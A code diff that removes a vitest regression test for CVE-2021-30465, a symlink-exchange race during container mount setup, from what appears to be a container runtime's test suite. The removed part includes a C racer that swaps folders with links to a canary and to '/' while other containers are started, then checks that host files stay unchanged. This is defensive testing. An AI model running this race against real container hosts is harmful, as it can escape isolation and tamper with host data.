@@ -3,7 +3,7 @@
 // ATTACK_ROUNDS=N: N times as many rounds as fit into CI.
 import { createHash } from 'node:crypto';
 import { watch } from 'node:fs';
-import { chmod, copyFile, lstat, mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
+import { chmod, copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeAll, expect } from 'vitest';
@@ -198,77 +198,3 @@ for (const [name, body] of [
     return SEEN.test(await during(body, options));
   });
 }
-
-/** Swaps a folder for a link to `/store/canary`, and that for one to `/`, as fast as it can. */
-const RACER = `
-#define _GNU_SOURCE
-#include <fcntl.h>
-#include <stdio.h>
-#include <sys/stat.h>
-#include <unistd.h>
-int main(void) {
-  chdir("/vol");
-  mkdir("folder", 0777);
-  symlink("/store/canary", "store");
-  symlink("/", "root");
-  rename("folder", "a");
-  for (long swaps = 0;; swaps += 4) {
-    renameat2(AT_FDCWD, "a", AT_FDCWD, "store", RENAME_EXCHANGE);
-    renameat2(AT_FDCWD, "a", AT_FDCWD, "store", RENAME_EXCHANGE);
-    renameat2(AT_FDCWD, "a", AT_FDCWD, "root", RENAME_EXCHANGE);
-    renameat2(AT_FDCWD, "a", AT_FDCWD, "root", RENAME_EXCHANGE);
-    if (swaps % 1000 == 0) { printf("%ld\\n", swaps); fflush(stdout); }
-  }
-}
-`;
-
-/** All names below a folder, with what they are. */
-async function treeHash(folder: string): Promise<string> {
-  const hash = createHash('sha256');
-  const names = await readdir(folder, { recursive: true });
-  for (const name of names.sort()) {
-    const path = join(folder, name);
-    const { mode, uid, size, ino } = await lstat(path);
-    hash.update(JSON.stringify([name, mode, uid, size, ino]));
-  }
-  return hash.digest('hex');
-}
-
-// CVE-2021-30465: a container swaps folder and link where others are having a mount made.
-test('a racer on the target of a mount', { timeout: 300_000 }, async () => {
-  await using folder = await tempFolder();
-  const shared = join(folder.path, 'shared');
-  await mkdir(shared);
-  await chmod(shared, 0o777);
-  const root = join(folder.path, 'root');
-  await mkdir(root);
-  await busyboxRootfs(root);
-  await compileStatic(RACER, join(root, 'bin/racer'));
-  const image = await Image.fromRootfs(root, {}, { runtime: t.runtime });
-  const canary = join(t.store.root, 'canary');
-  await mkdir(join(canary, 'inside'), { recursive: true });
-  await writeFile(join(canary, 'inside/file'), 'canary');
-  const seen = async (): Promise<unknown> => [await treeHash(canary), await readdir('/')];
-  const before = await seen();
-
-  const volume = { type: 'bind' as const, source: shared, target: '/vol' };
-  const options = { runtime: t.runtime, mounts: [volume] };
-  await using racer = await Container.start({ image, argv: ['racer'], ...options });
-  await using attached = await racer.attach();
-  let swaps = 0;
-  attached.stdout.on('data', (chunk: Buffer) => {
-    swaps = Number(chunk.toString().trim().split('\n').at(-1));
-  });
-  let made = 0;
-  for (let round = 0; round < 300 * TIMES || swaps < 10_000 * TIMES; ++round) {
-    const mounts = [volume, { type: 'tmpfs' as const, target: '/vol/a/b' }];
-    const call = Container.run(image, ['true'], { runtime: t.runtime, mounts });
-    made += await call.then(
-      () => 1,
-      () => 0,
-    );
-  }
-  expect((await racer.inspect()).state).toBe('running');
-  expect(made).toBeGreaterThan(0);
-  expect(await seen()).toEqual(before);
-});
